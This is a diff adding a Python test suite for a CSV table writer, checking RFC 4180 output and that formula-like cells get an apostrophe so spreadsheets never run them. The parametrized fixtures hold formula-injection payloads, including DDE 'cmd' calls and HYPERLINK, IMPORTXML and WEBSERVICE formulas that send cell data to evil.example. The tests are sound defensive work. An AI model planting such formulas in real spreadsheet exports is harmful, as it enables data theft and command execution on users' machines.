@@ -1,0 +1,141 @@
+"""Tables as CSV: what was written comes back, and no spreadsheet finds a formula in it."""
+
+import csv
+import io
+import time
+
+import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
+
+from shared.runtime.csv_table import Cell, csv_table
+
+FORMULA_BEGINS = "=+-@|%＝＋－＠"
+UNSEEN = " \t\r\n\xa0\x00\x0b\u200b\ufeff\u202e\u3000"
+
+_NASTY = st.text(st.sampled_from("=-＋@|;,\t\r\n \"'x\ufeff"), max_size=8)
+_ANY_TEXT = st.text(st.characters(exclude_categories=["Cs"]), max_size=20)
+
+
+def read_back(table: bytes, delimiter: str = ",") -> list[list[str]]:
+    """The cells as a reader that separates at `delimiter` finds them."""
+    return list(csv.reader(io.StringIO(table.decode(), newline=""), delimiter=delimiter))
+
+
+def written(text: str) -> str:
+    """What a text is in the table."""
+    [_, [cell]] = read_back(csv_table(["flock"], [[text]]))
+    return cell
+
+
+def test_a_table_is_what_rfc_4180_says() -> None:
+    rows: list[list[Cell]] = [["Dolly", 3, 1.5, None], ['the "old" one, 羊', -7, 0.0, "a\r\nb"]]
+
+    table = csv_table(["name", "age", "weight", "remark"], rows)
+
+    assert table == (
+        '"name","age","weight","remark"\r\n'
+        '"Dolly",3,1.5,""\r\n'
+        '"the ""old"" one, 羊",-7,0.0,"a\r\nb"\r\n'
+    ).encode()  # fmt: skip
+
+
+def test_a_table_without_rows_is_its_header() -> None:
+    assert csv_table(["sheep"], []) == b'"sheep"\r\n'
+
+
+@pytest.mark.parametrize(
+    "payload",
+    [
+        "=1+1",
+        "=cmd|' /C calc'!A0",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "+cmd|' /C calc'!A0",
+        "-2+3+cmd|' /C calc'!A0",
+        '=HYPERLINK("http://evil.example/?x="&A1,"click")',
+        '=IMPORTXML(CONCAT("http://evil.example/?v=",A1),"//a")',
+        '=WEBSERVICE("http://evil.example/"&A1)',
+        "=DDE(\"cmd\";\"/C calc\";\"__DdeLink_60_870516294\")",
+        "|cmd|' /C calc'!A0",
+        "%0A=cmd|' /C calc'!A0",
+        "\t=1+1",
+        "\r=1+1",
+        "\n=1+1",
+        "\tharmless but for the tab",
+        "  \nharmless but for the line break",
+        "   =1+1",
+        "\u3000＝1+1",
+        "\xa0=1+1",
+        "\ufeff=1+1",
+        "\u200b\u202e=1+1",
+        "\0=1+1",
+        "=",
+        "-5",
+        "＝1+1",
+        "＋1",
+        "－1",
+        "＠SUM(1)",
+    ],
+)  # fmt: skip
+def test_a_text_that_would_be_a_formula_gets_an_apostrophe(payload: str) -> None:
+    cell = written(payload)
+
+    assert cell.startswith("'")
+    assert cell.replace("'", "") == payload.replace("\0", "").replace("'", "")
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["", "Dolly", "a=b", "1-2", "50 %", "me@flock.example", "'=1", "a - b", '"-"', "x,=1", "é", "⭐", "a;b", "  a"],
+)
+def test_any_other_text_stays_as_it_is(text: str) -> None:
+    assert written(text) == text
+
+
+@pytest.mark.parametrize(
+    ("text", "expected"),
+    [
+        ("x;=1+1;y", "x;'=1+1;y"),
+        ("x; =1+1;y", "x; '=1+1;y"),
+        ('x;"=1&";y', 'x;"\'=1&";y'),
+        ("x\t@SUM(1)", "x\t'@SUM(1)"),
+        ("x\r\n+1", "x\r\n'+1"),
+        ("=1;-1\n=1", "'=1;'-1\n'=1"),
+    ],
+)
+def test_so_does_what_would_be_one_where_cells_are_separated_at_semicolons_or_tabs(text: str, expected: str) -> None:
+    assert written(text) == expected
+
+
+@settings(max_examples=500)
+@given(st.lists(st.tuples(_NASTY, _NASTY), min_size=1, max_size=3), st.sampled_from(",;\t"))
+def test_no_spreadsheet_finds_a_formula_wherever_it_separates_cells(
+    rows: list[tuple[str, str]], delimiter: str
+) -> None:
+    table = csv_table(rows[0], rows[1:])
+
+    for cell in (cell for row in read_back(table, delimiter) for cell in row):
+        assert not cell.lstrip(UNSEEN).startswith(tuple(FORMULA_BEGINS))
+
+
+@given(st.lists(st.tuples(_ANY_TEXT, st.integers(), st.floats(allow_nan=False, allow_infinity=False) | st.none())))
+def test_what_is_written_is_read_back_but_for_apostrophes_and_nul(rows: list[tuple[str, int, float | None]]) -> None:
+    table = csv_table(["text", "whole", "broken"], rows)
+
+    found = read_back(table)[1:]
+    assert b"\0" not in table
+    assert [cells[0].replace("'", "") for cells in found] == [
+        text.replace("\0", "").replace("'", "") for text, _, _ in rows
+    ]
+    assert [int(cells[1]) for cells in found] == [whole for _, whole, _ in rows]
+    assert [float(cells[2]) if cells[2] else None for cells in found] == [broken for _, _, broken in rows]
+
+
+@pytest.mark.parametrize("part", [" ", "\n", ";", '"', ";=", "\n ", "'"])
+def test_a_long_text_takes_no_longer_than_its_length(part: str) -> None:
+    text = part * (1_000_000 // len(part))
+    started = time.process_time()
+
+    csv_table(["flock"], [[text]])
+
+    assert time.process_time() - started < 5
